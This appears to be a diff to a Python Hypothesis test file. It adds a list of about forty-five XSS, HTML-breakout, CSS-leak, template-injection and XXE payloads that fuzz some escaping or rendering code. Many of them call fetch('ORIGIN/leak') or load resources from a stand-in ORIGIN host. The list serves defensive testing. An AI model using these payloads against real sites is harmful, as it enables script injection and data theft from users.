@@ -49,8 +49,60 @@ PAYLOADS = (
     " ",
 )
 
+ACTION = "window.canary=1;alert(1);fetch('ORIGIN/leak')"
+"""What a payload does if it gets to act. ORIGIN stands for a server that would notice."""
+
+HTML_PAYLOADS = (
+    f"<script>{ACTION}</script>",
+    f"</script><script>{ACTION}</script>",
+    f"</SCRIPT\t><script>{ACTION}</script>",
+    f"<!--<script>{ACTION}//-->",
+    f"--></script><!--><script>{ACTION}</script>",
+    f"</style><script>{ACTION}</script>",
+    f"</title><script>{ACTION}</script>",
+    f"</noscript></textarea></template></select><script>{ACTION}</script>",
+    f"</code></pre></details></main><script>{ACTION}</script>",
+    f'" autofocus onfocus="{ACTION}" x="',
+    f"' onmouseover='{ACTION}' autofocus tabindex=1 onfocus='{ACTION}",
+    f"x onclick={ACTION} y",
+    f"<img src=x onerror={ACTION}>",
+    '<img src="ORIGIN/leak.png"><img srcset="ORIGIN/leak2.png">',
+    f"<svg/onload={ACTION}>",
+    f"<svg><script>{ACTION}</script><animate onbegin={ACTION} attributeName=x dur=1s></svg>",
+    '<svg><use href="ORIGIN/leak.svg#x"/><image href="ORIGIN/leak.png"/></svg>',
+    f'<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ACTION}&gt;">',
+    f'<iframe srcdoc="<script>parent.{ACTION}</script>"></iframe><iframe src="ORIGIN/leak"></iframe>',
+    '<object data="ORIGIN/leak"></object><embed src="ORIGIN/leak"><video src="ORIGIN/leak" poster="ORIGIN/leak"></video>',
+    '<meta http-equiv="refresh" content="0;url=ORIGIN/leak">',
+    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
+    '<base href="ORIGIN/"><link rel="stylesheet" href="ORIGIN/leak.css"><link rel="prefetch" href="ORIGIN/leak">',
+    f'<form action="ORIGIN/leak"><input autofocus onfocus="{ACTION}"><button formaction="javascript:{ACTION}">go</button></form>',
+    f"javascript:{ACTION}",
+    f'<a href="javascript:{ACTION}" ping="ORIGIN/leak">x</a>',
+    f"data:text/html,<script>{ACTION}</script>",
+    "</style><style>*{background:url(ORIGIN/leak.png)}body{display:none}</style>",
+    "@import 'ORIGIN/leak.css';*{background:url('ORIGIN/leak.png');x:expression(alert(1))}",
+    '" style="background:url(ORIGIN/leak.png);position:fixed;inset:0',
+    f"{{{{constructor.constructor('{ACTION}')()}}}}",
+    f"${{{ACTION}}} #{{7*7}} <%= 7*7 %> {{% raw %}} [[${{7*7}}]]",
+    f"\u2028{ACTION}\u2029//",
+    f"null\x00byte<scr\x00ipt>{ACTION}</scr\x00ipt>",
+    "\\u003c/script\\u003e \\x3cscript\\x3e \\",
+    f'"}}]}}</script><script>{ACTION}</script>',
+    "__proto__",
+    "constructor",
+    "island",
+    '<form id="island" name="list"><input name="getElementById" id="count"></form>',
+    f"&lt;script&gt;{ACTION}&lt;/script&gt; &#x3c;script&#x3e; &amp;lt;b&amp;gt; &lt",
+    f"\uff1cscript\uff1e{ACTION}\uff1c/script\uff1e \u02bc \u0130",
+    "]]><![CDATA[ <?xml version='1.0'?> <!DOCTYPE html [<!ENTITY x SYSTEM 'ORIGIN/leak'>]>&x;",
+    f"+ADw-script+AD4-{ACTION}+ADw-/script+AD4-",
+    "#C-01' ] , * { } :is(",
+    "%3Cscript%3E%zz%",
+)
+
 hostile_text = st.one_of(
-    st.sampled_from(PAYLOADS),
+    st.sampled_from((*PAYLOADS, *HTML_PAYLOADS)),
     st.lists(
         st.one_of(
             st.sampled_from(list("\\`*_{}[]()<>#+-=.!|~&$:/@\"'\n\r\t \x1b\u202e\u200b\U000e0041\ufe0f\ud800")),
